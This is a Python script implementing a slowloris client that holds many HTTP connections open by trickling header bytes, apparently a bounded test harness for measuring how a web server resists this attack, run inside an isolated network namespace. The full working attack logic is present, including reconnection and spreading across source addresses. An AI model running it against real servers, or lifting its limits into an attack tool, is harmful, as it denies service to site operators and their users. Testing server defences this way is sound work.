#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""A bounded slowloris client: opens CONNS connections to HOST:PORT, sends each an
unfinished HTTP request head, then one more header byte every INTERVAL seconds, never the
blank line that would end the head. It stops by itself after DURATION seconds and prints
one JSON summary: how many connections were established, reset before the client saw
them connected (connect_reset), or closed by the server later (with how long each lived
and whether a 408 came first), the most held at once, and the count held each second.

With --reconnect every connection the server closes is replaced at once, as the original
slowloris does. Run it only inside a test's own network namespace, against an address there:
  slowloris.py --host 10.0.0.2 --port 80 --conns 300 --interval 1 --duration 12 \
      --sources 10.0.0.1,10.0.0.3
Sources are local addresses the connections are bound to, in turn (a per-source limit is
tested by using one, a spread attack by using several).
"""
import argparse
import errno
import json
import os
import random
import resource
import selectors
import socket
import sys
import time

HEAD = b"GET / HTTP/1.1\r\nHost: slowloris\r\nUser-Agent: slowloris-test\r\n"
TRICKLE = b"X-a: b\r\n"


class Conn:
    __slots__ = ("sock", "start", "est", "closed", "how", "got", "next_send", "pos")

    def __init__(self, sock, start):
        self.sock = sock
        self.start = start
        self.est = None      # connect completed
        self.closed = None   # the server closed it (or the connect failed)
        self.how = ""        # "eof", "reset", "connect-failed"
        self.got = b""       # what the server sent (a 408 at most)
        self.next_send = 0.0
        self.pos = 0


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", required=True)
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--conns", type=int, default=100)
    ap.add_argument("--interval", type=float, default=5.0)
    ap.add_argument("--duration", type=float, default=10.0)
    ap.add_argument("--sources", default="")
    ap.add_argument("--open-rate", type=float, default=2000.0,
                    help="connections opened per second at most")
    ap.add_argument("--reconnect", action="store_true",
                    help="replace every connection the server closes (as slowloris does), "
                         "keeping CONNS open; at most 20 x CONNS connections in all")
    a = ap.parse_args()
    if a.conns < 1 or a.conns > 20000 or a.duration <= 0 or a.duration > 600:
        sys.exit("slowloris.py: conns must be 1..20000 and duration 0..600 s")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, a.conns + 64)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    sources = [s for s in a.sources.split(",") if s]
    sel = selectors.DefaultSelector()
    conns = []
    t0 = time.monotonic()
    end = t0 + a.duration
    samples = []
    next_sample = t0 + 1.0
    max_held = 0
    opened = 0

    def close(c, how, now):
        if c.closed is None:
            c.closed = now
            c.how = how
        try:
            sel.unregister(c.sock)
        except (KeyError, ValueError):
            pass
        c.sock.close()

    while True:
        now = time.monotonic()
        if now >= end:
            break
        # open more, no faster than --open-rate; with --reconnect, CONNS stay open
        due = int((now - t0) * a.open_rate) + 1
        live = sum(1 for c in conns if c.closed is None) if a.reconnect else opened
        while opened < due and live < a.conns and opened < 20 * a.conns:
            live += 1
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            if sources:
                s.bind((sources[opened % len(sources)], 0))
            c = Conn(s, now)
            conns.append(c)
            opened += 1
            err = s.connect_ex((a.host, a.port))
            if err not in (0, errno.EINPROGRESS):
                close(c, "connect-failed", now)
                continue
            sel.register(s, selectors.EVENT_WRITE, c)
        for key, ev in sel.select(timeout=0.05):
            c = key.data
            if c.est is None:
                err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    # reset before we saw it connected: the server refused it at once
                    close(c, "connect-reset" if err == errno.ECONNRESET else "connect-failed",
                          now)
                    continue
                c.est = now
                try:
                    c.sock.send(HEAD)
                except OSError:
                    close(c, "reset", now)
                    continue
                c.next_send = now + random.uniform(0, a.interval)
                sel.modify(c.sock, selectors.EVENT_READ, c)
                continue
            try:
                d = c.sock.recv(4096)
            except ConnectionResetError:
                close(c, "reset", now)
                continue
            except OSError:
                close(c, "reset", now)
                continue
            if not d:
                close(c, "eof", now)
            else:
                c.got += d[:256]
        now = time.monotonic()
        for c in conns:
            if c.est is not None and c.closed is None and now >= c.next_send:
                try:
                    c.sock.send(TRICKLE[c.pos % len(TRICKLE):c.pos % len(TRICKLE) + 1])
                    c.pos += 1
                except OSError:
                    close(c, "reset", now)
                    continue
                c.next_send = now + a.interval
        held = sum(1 for c in conns if c.est is not None and c.closed is None)
        max_held = max(max_held, held)
        if now >= next_sample:
            samples.append(held)
            next_sample += 1.0

    now = time.monotonic()
    held_at_end = sum(1 for c in conns if c.est is not None and c.closed is None)
    for c in conns:
        if c.closed is None:
            c.sock.close()
    lives = sorted(c.closed - c.est for c in conns if c.est is not None and c.closed is not None)
    out = {
        "conns": opened,
        "established": sum(1 for c in conns if c.est is not None),
        "connect_failed": sum(1 for c in conns if c.how == "connect-failed"),
        "connect_reset": sum(1 for c in conns if c.how == "connect-reset"),
        "closed_by_server": len(lives),
        "resets": sum(1 for c in conns if c.how == "reset"),
        "got_408": sum(1 for c in conns if c.got.startswith(b"HTTP/1.1 408")),
        "life_min": round(lives[0], 2) if lives else None,
        "life_median": round(lives[len(lives) // 2], 2) if lives else None,
        "life_max": round(lives[-1], 2) if lives else None,
        "lives": [round(x, 2) for x in lives],
        "max_held": max_held,
        "held_at_end": held_at_end,
        "held_each_second": samples,
    }
    print(json.dumps(out))


if __name__ == "__main__":
    main()
